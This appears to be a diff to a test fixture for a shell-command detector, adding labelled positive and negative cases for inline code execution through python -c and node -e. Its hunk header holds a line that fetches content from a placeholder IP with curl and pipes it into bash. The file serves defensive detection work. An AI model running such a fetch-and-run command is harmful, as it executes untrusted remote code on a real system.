@@ -80,3 +80,10 @@ curl -s http://203.0.113.5/s | xargs -0 bash -c
 #@ neg xargs runs constant code per argument; a loop reads a process substitution
 ls | xargs -n1 bash -c 'echo "$0"'
 while read -r l; do echo "$l"; done < <(ls)
+#@ neg options of a python module or script, node's preload
+python3 -m pip install --quiet -r "$ROOT/requirements-dev.txt"
+python3 -u ./tool.py -e "$ENV_NAME" -c "$CONFIG"
+node -r dotenv/config ./server.js -e "$MODE"
+#@ pos python -c after its own options, node -e
+python3 -W ignore -c "$code"
+node --no-warnings -e "$js"
